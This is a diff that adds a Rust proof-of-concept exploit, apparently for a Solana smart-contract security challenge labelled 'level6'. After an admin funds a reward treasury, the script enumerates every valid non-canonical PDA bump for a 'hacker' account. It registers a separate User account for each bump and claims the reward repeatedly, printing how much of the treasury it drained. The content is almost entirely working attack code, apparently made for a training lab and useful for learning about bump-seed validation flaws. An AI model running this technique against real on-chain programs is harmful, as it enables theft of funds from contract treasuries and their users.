@@ -0,0 +1,160 @@
+use owo_colors::OwoColorize;
+
+use actors::Actors;
+use dryrun::RemoteEnvironment;
+
+use poc_framework::{
+    Environment,
+    solana_program::{
+        pubkey::Pubkey,
+        instruction::{AccountMeta, Instruction},
+        native_token::LAMPORTS_PER_SOL,
+        system_instruction,
+    },
+    solana_sdk::{
+        system_program,
+        signature::{read_keypair_file, Signer},
+    },
+};
+
+use borsh::{BorshSerialize, BorshDeserialize};
+
+#[derive(Debug, BorshDeserialize, BorshSerialize)]
+pub enum RewardInstruction {
+    Initialize { reward: u64 },
+    Register { bump: u8 },
+    Claim,
+}
+// We use the same Structures created in the Smart Contract
+#[repr(C)]
+#[derive(Clone, Copy, Debug, Default, PartialEq, BorshSerialize, BorshDeserialize)]
+pub struct Treasury {
+    pub admin: Pubkey,
+    pub reward: u64,
+}
+
+#[repr(C)]
+#[derive(Clone, Copy, Debug, Default, PartialEq, BorshSerialize, BorshDeserialize)]
+pub struct User {
+    pub authority: Pubkey,
+    pub bump: u8,
+    pub claimed: bool,
+}
+
+pub fn main() {
+    let programa_keypair = read_keypair_file("./target/so/level6-keypair.json").unwrap();
+    let programa = programa_keypair.pubkey();
+    let cliente1 = dryrun::client();
+
+    let mut actors = Actors::new();
+    let admin = actors.get("admin");
+    let hacker = actors.get("hacker");
+
+    let (treasury, _) = Pubkey::find_program_address(&[&"TREASURY".as_bytes()], &programa);
+
+    let mut env = RemoteEnvironment::new_with_airdrop(cliente1, actors.get("admin"), 10000000000);
+    println!("{}", actors.legend().blue());
+    env.airdrop(hacker.pubkey(), LAMPORTS_PER_SOL);
+
+    /* First the admin creates the treasury, 0.5 SOL reward per user, and funds it */
+    env.execute_as_transaction(
+        &[
+            Instruction {
+                program_id: programa,
+                accounts: vec![
+                    AccountMeta::new(treasury, false),
+                    AccountMeta::new(admin.pubkey(), true),
+                    AccountMeta::new_readonly(poc_framework::solana_program::sysvar::rent::id(), false),
+                    AccountMeta::new_readonly(system_program::id(), false),
+                ],
+                data: RewardInstruction::Initialize { reward: LAMPORTS_PER_SOL / 2 }.try_to_vec().unwrap(),
+            },
+            system_instruction::transfer(&admin.pubkey(), &treasury, 5 * LAMPORTS_PER_SOL),
+        ],
+        &[&admin],
+    );
+
+    println!("");
+    println!("{}", "********************************************".bright_blue().bold());
+    println!("{}", "*                 INITIALIZING             *".bright_blue().bold());
+    println!("{}", "********************************************".bright_blue().bold());
+    println!("");
+    println!("{} {:?}", "Treasury: ".bold().blue(),
+    env.get_deserialized_account::<Treasury>(treasury).unwrap().blue());
+    println!("{} {:?}", "Treasury lamports: ".bold().blue(), env.get_account(treasury).unwrap().lamports.blue());
+    println!("");
+
+    /* Second we look for every bump that gives an address off the curve, not only the canonical one */
+    let (_, canonical_bump) = Pubkey::find_program_address(
+        &[&"USER".as_bytes(), &hacker.pubkey().to_bytes()],
+        &programa,
+    );
+    let bumps: Vec<(u8, Pubkey)> = (0..=255u8)
+        .rev()
+        .filter_map(|bump| {
+            Pubkey::create_program_address(
+                &[&"USER".as_bytes(), &hacker.pubkey().to_bytes(), &[bump]],
+                &programa,
+            )
+            .ok()
+            .map(|address| (bump, address))
+        })
+        .collect();
+
+    println!("{}", "********************************************".bright_blue().bold());
+    println!("{}", "*             ENUMERATING BUMPS            *".bright_blue().bold());
+    println!("{}", "********************************************".bright_blue().bold());
+    println!("");
+    println!("{} {:?}", "Canonical bump: ".bold().green(), canonical_bump.green());
+    println!("{} {:?}", "Valid bumps: ".bold().green(), bumps.len().green());
+    println!("");
+
+    /* Third we register one User per bump and claim the reward with each of them */
+    let hacker_before = env.get_account(hacker.pubkey()).unwrap().lamports;
+    let reward = env.get_deserialized_account::<Treasury>(treasury).unwrap().reward;
+    let treasury_rent = env.get_rent_excemption(32 + 8);
+    let mut claimed = 0;
+    for (bump, user) in bumps {
+        if env.get_account(treasury).unwrap().lamports < treasury_rent + reward {
+            break;
+        }
+        env.execute_as_transaction(
+            &[
+                Instruction {
+                    program_id: programa,
+                    accounts: vec![
+                        AccountMeta::new(user, false),
+                        AccountMeta::new(hacker.pubkey(), true),
+                        AccountMeta::new_readonly(poc_framework::solana_program::sysvar::rent::id(), false),
+                        AccountMeta::new_readonly(system_program::id(), false),
+                    ],
+                    data: RewardInstruction::Register { bump }.try_to_vec().unwrap(),
+                },
+                Instruction {
+                    program_id: programa,
+                    accounts: vec![
+                        AccountMeta::new(user, false),
+                        AccountMeta::new(treasury, false),
+                        AccountMeta::new(hacker.pubkey(), true),
+                    ],
+                    data: RewardInstruction::Claim.try_to_vec().unwrap(),
+                },
+            ],
+            &[&hacker],
+        );
+        claimed += 1;
+        println!("{} {} {} {:?}", "Claimed with bump".bold().green(), bump.green(), "user:".bold().green(),
+        env.get_deserialized_account::<User>(user).unwrap().green());
+    }
+
+    println!("");
+    println!("{}", "********************************************".bright_blue().bold());
+    println!("{}", "*                   RESULT                 *".bright_blue().bold());
+    println!("{}", "********************************************".bright_blue().bold());
+    println!("");
+    println!("{} {:?}", "Rewards claimed by one authority: ".bold().red(), claimed.red());
+    println!("{} {:?}", "Treasury lamports: ".bold().red(), env.get_account(treasury).unwrap().lamports.red());
+    println!("{} {:?}", "Hacker earned (minus User rent): ".bold().green(),
+    (env.get_account(hacker.pubkey()).unwrap().lamports - hacker_before).green());
+    println!("");
+}